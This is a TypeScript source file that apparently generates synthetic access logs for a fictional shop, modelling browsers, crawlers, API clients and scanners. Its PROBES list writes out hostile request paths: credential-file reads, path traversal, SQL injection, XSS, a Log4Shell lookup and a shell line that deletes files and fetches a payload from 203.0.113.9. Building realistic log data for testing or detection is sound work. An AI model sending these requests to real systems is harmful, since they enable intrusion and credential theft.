import type { ClientKind } from "./clients.ts";
import type { Random } from "./random.ts";

/** What one line says, apart from who and when. A null Referer was not sent. */
export interface Request {
  readonly method: string;
  readonly target: string;
  readonly status: number;
  readonly bytes: number;
  readonly referer: string | null;
  readonly upgrade: boolean;
  /** Seconds after the session's request before it. */
  readonly pause: number;
}

export const SITE = "https://www.shop.example";
const PAGES = [
  "/",
  "/catalogue/",
  "/catalogue/garden/tools?page=2",
  "/catalogue/kitchen/knives?sort=price&page=3",
  "/articles/2026/11/how-we-choose-our-suppliers",
  "/articles/2026/09/caring-for-cast-iron-in-seven-steps",
  "/products/48213-carbon-steel-pan-28cm",
  "/products/51877-japanese-whetstone-1000-6000",
  "/search?q=stainless+steel+mixing+bowl",
  "/basket",
  "/account/orders",
  "/about/delivery-and-returns",
];
const REFERERS = [
  "https://www.google.com/",
  "https://duckduckgo.com/",
  "https://www.bing.com/",
  `${SITE}/catalogue/garden/tools?page=1`,
];
const ASSETS = [
  "/assets/app-4f9c21b7.css",
  "/assets/app-9d03ae51.js",
  "/assets/vendor-71be0c44.js",
  "/assets/fonts/inter-latin-400.woff2",
  "/favicon.ico",
];
const FORGOTTEN = [
  "/apple-touch-icon-precomposed.png",
  "/old/catalogue.html",
  "/images/banner-summer.png",
  "/feed.xml",
];

/** What scanners ask for, with the status that a site without the thing gives. */
const PROBES: readonly (readonly [target: string, status: number])[] = [
  ["/.env", 403],
  ["/.git/config", 403],
  ["/.aws/credentials", 403],
  ["/wp-login.php", 404],
  ["/xmlrpc.php?rsd", 404],
  ["/phpMyAdmin/index.php?lang=en", 404],
  ["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404],
  ["/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400],
  ["/products/?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-", 200],
  ["/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200],
  ["/download?file=../../../../../../etc/passwd", 404],
  ["/?x=$%7Bjndi:ldap://203.0.113.9:1389/a%7D", 200],
  ["/server-status", 403],
  ["/actuator/env", 404],
  ["/boaform/admin/formLogin?username=admin&psd=admin", 404],
  ["/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/x", 404],
];

const DESKTOPS = ["Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64"];
const PHONES = [
  "Linux; Android 16; Pixel 9",
  "Linux; Android 15; SM-S931B",
  "Linux; Android 14; moto g54 5G",
];
const CRAWLERS = [
  "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/140.0.7339.80 Safari/537.36",
  "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/136.0.0.0 Safari/537.36",
  "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
  "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
];
const API_CLIENTS = [
  "shop-app/8.14.2 (iPhone17,3; iOS 19.1; Scale/3.00)",
  "okhttp/5.1.0",
  "python-requests/2.32.5",
  "Go-http-client/2.0",
];
const ATTACK_TOOLS = [
  "Mozilla/5.0 zgrab/0.x",
  "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
  "sqlmap/1.9.8#stable (https://sqlmap.org)",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36",
  "curl/8.5.0",
];

/** What a client calls itself, for as long as the log runs. Null: it sends no User-Agent. */
export function userAgentOf(kind: ClientKind, random: Random): string | null {
  switch (kind) {
    case "crawler":
      return random.pick(CRAWLERS);
    case "api":
      return random.pick(API_CLIENTS);
    case "attacker":
      return random.chance(0.1) ? null : random.pick(ATTACK_TOOLS);
    default:
      return browserAgent(random);
  }
}

/** Browsers differ in their build numbers: some thousand distinct strings, as in real logs. */
function browserAgent(random: Random): string {
  if (random.chance(0.22)) {
    return `Mozilla/5.0 (iPhone; CPU iPhone OS 18_${random.below(7)} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.${random.below(7)} Mobile/15E148 Safari/604.1`;
  }
  if (random.chance(0.1)) {
    const version = 128 + random.below(18);
    return `Mozilla/5.0 (${random.pick(DESKTOPS)}; rv:${version}.0) Gecko/20100101 Firefox/${version}.0`;
  }
  const phone = random.chance(0.45);
  const build = `${130 + random.below(13)}.0.${random.chance(0.6) ? "0.0" : `${6700 + random.below(40) * 17}.${random.below(200)}`}`;
  return `Mozilla/5.0 (${random.pick(phone ? PHONES : DESKTOPS)}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${build} ${phone ? "Mobile " : ""}Safari/537.36`;
}

/** The next thing that a client of this kind asks for; `step` counts within its session. */
export function nextRequest(kind: ClientKind, step: number, random: Random): Request {
  switch (kind) {
    case "browser":
      return browserRequest(step, random);
    case "crawler":
      return crawlerRequest(step, random);
    case "api":
      return apiRequest(random);
    case "socket":
      return step % 12 === 3 ? handshake(random) : browserRequest(step, random);
    case "attacker":
      return attackRequest(step, random);
  }
}

const page = (target: string, random: Random, referer: string | null, pause: number): Request => ({
  method: "GET",
  target,
  status: random.chance(0.04) ? 304 : 200,
  bytes: 4_000 + random.below(40_000),
  referer,
  upgrade: false,
  pause,
});

function browserRequest(step: number, random: Random): Request {
  if (step % 9 === 0) {
    const referer =
      step === 0 ? (random.chance(0.4) ? random.pick(REFERERS) : null) : `${SITE}${random.pick(PAGES)}`;
    return page(random.pick(PAGES), random, referer, step === 0 ? 0 : 5 + random.below(40));
  }
  const referer = `${SITE}${PAGES[step % PAGES.length]}`;
  if (random.chance(0.015))
    return { ...page(random.pick(FORGOTTEN), random, referer, 0), status: 404, bytes: 3_214 };
  if (random.chance(0.45)) return page(random.pick(ASSETS), random, referer, 0);
  return page(
    `/images/products/${40_000 + random.below(20_000)}-${random.pick(["640w", "1280w"])}.webp`,
    random,
    referer,
    random.below(2),
  );
}

function crawlerRequest(step: number, random: Random): Request {
  if (step === 0) return page("/robots.txt", random, null, 0);
  const target = random.chance(0.6) ? `/products/${40_000 + random.below(20_000)}-item` : random.pick(PAGES);
  const request = page(target, random, null, 2 + random.below(9));
  return random.chance(0.03) ? { ...request, status: random.chance(0.5) ? 404 : 301, bytes: 3_214 } : request;
}

function apiRequest(random: Random): Request {
  const write = random.chance(0.2);
  return {
    method: write ? "POST" : "GET",
    target: write
      ? "/api/v2/baskets/current/items"
      : `/api/v2/products/${40_000 + random.below(20_000)}?fields=price,stock`,
    status: random.chance(0.01) ? 401 : random.chance(0.005) ? 502 : write ? 201 : 200,
    bytes: 200 + random.below(1_800),
    referer: null,
    upgrade: false,
    pause: 1 + random.below(12),
  };
}

const handshake = (random: Random): Request => ({
  method: "GET",
  target: `/ws/support?session=${random.below(0x7fff_ffff).toString(16)}`,
  status: 101,
  bytes: random.below(60_000),
  referer: null,
  upgrade: true,
  pause: 1 + random.below(3),
});

function attackRequest(step: number, random: Random): Request {
  const [target, status] = random.pick(PROBES);
  return {
    method: random.chance(0.12) ? "POST" : random.chance(0.05) ? "HEAD" : "GET",
    // Scanners vary the case and walk names that nobody has.
    target: random.chance(0.1) ? target.toUpperCase() : random.chance(0.2) ? `/backup${step}.zip` : target,
    status,
    bytes: status === 200 ? 9_000 + random.below(900) : 1_200,
    referer: null,
    upgrade: false,
    pause: random.chance(0.7) ? 0 : random.below(4),
  };
}
